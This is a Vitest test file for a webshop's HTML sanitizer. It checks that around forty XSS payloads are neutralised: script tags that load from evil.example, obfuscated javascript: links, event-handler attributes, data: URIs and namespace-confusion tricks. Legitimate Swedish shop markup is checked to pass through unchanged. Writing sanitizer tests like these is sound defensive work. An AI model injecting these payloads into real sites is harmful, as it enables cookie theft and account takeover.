// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  CONTENT_CLASS_PATTERNS,
  CONTENT_HTML_ATTRIBUTES,
  CONTENT_HTML_TAGS,
  CONTENT_URL_SCHEMES,
  sanitizeContentHtml,
} from './sanitize-html';

/** A class name content may carry: one of CONTENT_CLASS_PATTERNS (`legacy-*`, `content-*`). */
const CONTENT_CLASS = new RegExp(
  `^(${CONTENT_CLASS_PATTERNS.map((p) => p.replace('*', '')).join('|')})\\S*$`,
);

/**
 * What is wrong with sanitized HTML as a browser reads it (jsdom's HTML parser, not the sanitizer's
 * own): elements or attributes outside the allowlist, event handlers, or a URL whose scheme is not
 * allowed once resolved against a shop page. Empty when nothing can run.
 */
function executableParts(html: string): string[] {
  const body = new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html').body;
  const problems: string[] = [];
  for (const element of Array.from(body.querySelectorAll('*'))) {
    const tag = element.localName;
    if (!CONTENT_HTML_TAGS.includes(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      problems.push(`<${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (name === 'class') {
        const tokens = value.split(/\s+/).filter(Boolean);
        if (!tokens.every((token) => CONTENT_CLASS.test(token)))
          problems.push(`${tag}[class=${value}]`);
      } else if (name.startsWith('on') || !(CONTENT_HTML_ATTRIBUTES[tag] ?? []).includes(name)) {
        problems.push(`${tag}[${name}]`);
      }
      if (name === 'href' || name === 'src') {
        const scheme = new URL(value, 'https://nordshop.example/sv/').protocol.slice(0, -1);
        const allowed = tag === 'img' ? ['http', 'https'] : CONTENT_URL_SCHEMES;
        if (!allowed.includes(scheme)) problems.push(`${tag}[${name}=${value}]`);
      }
    }
  }
  return problems;
}

const XSS_PAYLOADS = [
  { name: 'a script tag', html: '<p>Hej</p><script>alert(1)</script>' },
  {
    name: 'an upper-case script tag with a source',
    html: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  },
  { name: 'a mixed-case script tag', html: '<ScRiPt>alert(document.cookie)</sCrIpT>' },
  {
    name: 'a script tag with a slash for a space',
    html: '<script/src="https://evil.example/x.js"></script>',
  },
  { name: 'a script tag broken over lines', html: '<script\n>alert(1)</script\n>' },
  { name: 'a script inside svg', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror without a closing bracket', html: '<img src=x onerror=alert(1)//' },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r="5"/></svg>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'body onload', html: '<body onload=alert(1)><p>x</p></body>' },
  {
    name: 'a link with onclick and onmouseover',
    html: '<a href="/kundservice" onclick="alert(1)" onmouseover="alert(2)">x</a>',
  },
  { name: 'a javascript: link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'a javascript: link in mixed case', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'a javascript: link with a leading space', html: '<a href=" javascript:alert(1)">x</a>' },
  {
    name: 'a javascript: link with a tab entity inside',
    html: '<a href="jav&#x09;ascript:alert(1)">x</a>',
  },
  {
    name: 'a javascript: link with a newline inside',
    html: '<a href="java\nscript:alert(1)">x</a>',
  },
  {
    name: 'a javascript: link written in decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'a javascript: link with a hex entity',
    html: '<a href="&#x6A;avascript:alert(1)">x</a>',
  },
  { name: 'a javascript: link with &colon;', html: '<a href="javascript&colon;alert(1)">x</a>' },
  {
    name: 'a javascript: link with a padded entity and no semicolon',
    html: '<a href="javascript&#0000058alert(1)">x</a>',
  },
  {
    name: 'a javascript: link behind a NUL character',
    html: '<a href="\u0000javascript:alert(1)">x</a>',
  },
  { name: 'a vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'a data: link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  {
    name: 'a data: picture',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  },
  {
    name: 'a picture with a javascript: srcset',
    html: '<img src="/a.svg" srcset="javascript:alert(1) 1x">',
  },
  { name: 'an iframe with srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  {
    name: 'an iframe with a javascript: source',
    html: '<iframe src="javascript:alert(1)"></iframe>',
  },
  {
    name: 'object and embed',
    html: '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  },
  {
    name: 'a form posting to javascript:',
    html: '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">Skicka</button></form>',
  },
  {
    name: 'a style attribute with a javascript: url',
    html: '<div style="background:url(javascript:alert(1))">x</div>',
  },
  {
    name: 'a style attribute with an IE expression',
    html: '<div style="width: expression(alert(1))">x</div>',
  },
  {
    name: 'a style element',
    html: '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>',
  },
  {
    name: 'a meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  { name: 'a base element', html: '<base href="javascript:alert(1)//"><a href="/x">x</a>' },
  {
    name: 'a script tag split by a nested one',
    html: '<scr<script>ipt>alert(1)</scr</script>ipt>',
  },
  { name: 'a doubled opening bracket', html: '<<script>script>alert(1)<</script>/script>' },
  { name: 'an unclosed script tag', html: '<p>x</p><script>alert(1)' },
  {
    name: 'markup hidden in an attribute value',
    html: '<p title="</p><script>alert(1)</script>">x</p>',
  },
  {
    name: 'noscript closed inside an attribute',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: 'math and style namespace confusion',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'a conditional comment',
    html: '<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>',
  },
  { name: 'a template element', html: '<template><img src=x onerror=alert(1)></template>' },
] as const;

describe('sanitizeContentHtml', () => {
  it.each(XSS_PAYLOADS)('leaves nothing executable of $name', ({ html }) => {
    const clean = sanitizeContentHtml(html);
    expect(executableParts(clean)).toEqual([]);
    expect(clean).not.toMatch(
      /<script|javascript:|vbscript:|data:|\son[a-z]+=|srcdoc|expression\(/i,
    );
  });

  it('keeps the text of a block and drops what the old shop put in it', () => {
    const legacy =
      '<div class="legacy-import" onclick="track()"><p>Öppet köp i 30 dagar.</p><script>window.__legacyTracking = 1</script><a href="javascript:print()">Skriv ut</a></div>';
    expect(sanitizeContentHtml(legacy)).toBe(
      '<div class="legacy-import"><p>Öppet köp i 30 dagar.</p><a>Skriv ut</a></div>',
    );
  });

  it.each([
    {
      name: 'a paragraph with a relative link and emphasis',
      html: '<p>Läs <a href="/kopvillkor" title="Köpvillkor">köpvillkoren</a> <strong>innan</strong> du <em>handlar</em>.</p>',
    },
    {
      name: 'absolute, mail and phone links',
      html: '<p><a href="https://www.postnord.se/">PostNord</a> <a href="mailto:kundservice@nordshop.example">mejla</a> <a href="tel:+46812345678">ring</a></p>',
    },
    {
      name: 'an anchor and a query link',
      html: '<p><a href="#villkor">Villkor</a> <a href="?page=2">Nästa</a></p>',
    },
    {
      name: 'headings, lists and a quote',
      html: '<h2>Frakt</h2><h3>Sverige</h3><ul><li>PostNord</li><li>Budbee</li></ul><ol><li>Beställ</li><li>Betala</li></ol><blockquote>Snabb leverans!</blockquote><h4>Övrigt</h4>',
    },
    {
      name: 'a table',
      html: '<table><thead><tr><th>Land</th><th>Pris</th></tr></thead><tbody><tr><td>Sverige</td><td>49 kr</td></tr></tbody></table>',
    },
    {
      name: 'a picture in a figure',
      html: '<figure><img src="/media/hero/offers.svg" alt="Erbjudanden" width="960" height="640" loading="lazy" /><figcaption>Veckans erbjudanden</figcaption></figure>',
    },
    {
      name: 'an absolute picture',
      html: '<img src="https://cdn.nordshop.example/a.png" alt="" />',
    },
    {
      name: 'line breaks, rules and inline elements',
      html: '<div><span>Rad 1</span><br />Rad 2<hr /><b>fet</b> <i>kursiv</i></div>',
    },
    {
      name: 'footer columns',
      html: '<section><h3>Kundservice</h3><ul><li><a href="/kundservice">Kontakta oss</a></li></ul></section>',
    },
    { name: 'plain text with an ampersand', html: 'Fri frakt &amp; snabb leverans – 499 kr' },
  ])('keeps $name as it is', ({ html }) => {
    expect(sanitizeContentHtml(html)).toBe(html);
  });

  it.each([
    {
      name: 'adds noopener noreferrer to a link opening a new tab',
      html: '<a href="https://x.example/" target="_blank">x</a>',
      clean: '<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x</a>',
    },
    {
      name: 'keeps the other rel words of such a link',
      html: '<a href="https://x.example/" target="_blank" rel="nofollow">x</a>',
      clean:
        '<a href="https://x.example/" target="_blank" rel="nofollow noopener noreferrer">x</a>',
    },
    {
      name: 'drops a target that is not _blank or _self',
      html: '<a href="/x" target="evil">x</a>',
      clean: '<a href="/x">x</a>',
    },
    {
      name: 'drops a protocol-relative link',
      html: '<a href="//evil.example/">x</a>',
      clean: '<a>x</a>',
    },
    {
      name: 'drops classes, ids and styles',
      html: '<p class="x" id="y" style="color:red">x</p>',
      clean: '<p>x</p>',
    },
    {
      name: "keeps content and legacy classes only, never the storefront's own",
      html: '<div class="legacy-import login-modal content-note">x</div>',
      clean: '<div class="legacy-import content-note">x</div>',
    },
    {
      name: 'drops a size that is not whole pixels and an unknown loading',
      html: '<img src="/a.svg" width="100%" height="50" loading="soon" />',
      clean: '<img src="/a.svg" height="50" />',
    },
    { name: 'closes unclosed elements', html: '<p>öppen <b>fet', clean: '<p>öppen <b>fet</b></p>' },
    {
      name: 'keeps the text of a form but not the form',
      html: '<form><button>Skicka</button></form>',
      clean: 'Skicka',
    },
  ])('$name', ({ html, clean }) => {
    expect(sanitizeContentHtml(html)).toBe(clean);
  });

  const fragment = fc.constantFrom(
    '<script>alert(1)</script>',
    '<script>',
    '</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<a href="javascript:alert(1)">',
    '<a href="jav&#x09;ascript:alert(1)">',
    '<a href="/ok" target="_blank">',
    '</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<style>',
    '</style>',
    '<p title="',
    '">',
    '<!--',
    '-->',
    '<math><mtext><table><mglyph><style>',
    '<noscript>',
    '</noscript>',
    '<p>',
    '</p>',
    '<div class="legacy-x site-header">',
    '<table><tr><td>',
    '<',
    '>',
    '"',
    "'",
    'data:text/html,x',
    'text',
  );

  it('leaves nothing executable in any mix of these fragments', () => {
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 12 }), (parts) => {
        expect(executableParts(sanitizeContentHtml(parts.join('')))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
